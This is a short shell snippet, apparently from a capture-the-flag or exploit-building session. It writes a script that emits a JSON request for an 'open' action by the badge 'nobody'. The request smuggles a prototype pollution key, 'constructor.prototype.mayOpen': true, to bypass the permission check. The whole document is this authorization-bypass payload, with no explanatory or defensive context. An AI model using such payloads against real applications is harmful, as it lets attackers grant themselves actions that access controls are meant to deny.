cat > open.sh <<'S'
printf '{"ship":{"constructor.prototype.mayOpen":true},"requests":[{"badge":"nobody","act":"open","signature":"%s"}]}' "$1"
S
echo open.sh
